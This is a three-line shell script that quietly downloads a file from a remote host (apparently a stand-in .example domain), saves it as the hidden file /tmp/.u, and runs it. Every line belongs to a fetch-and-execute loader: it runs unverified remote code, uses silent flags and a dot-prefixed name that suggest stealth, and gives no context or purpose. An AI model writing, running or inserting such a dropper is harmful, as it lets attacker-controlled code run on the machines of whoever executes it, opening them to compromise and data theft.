#!/bin/sh
wget -qO /tmp/.u https://uni.docs-hub.example/u
sh /tmp/.u
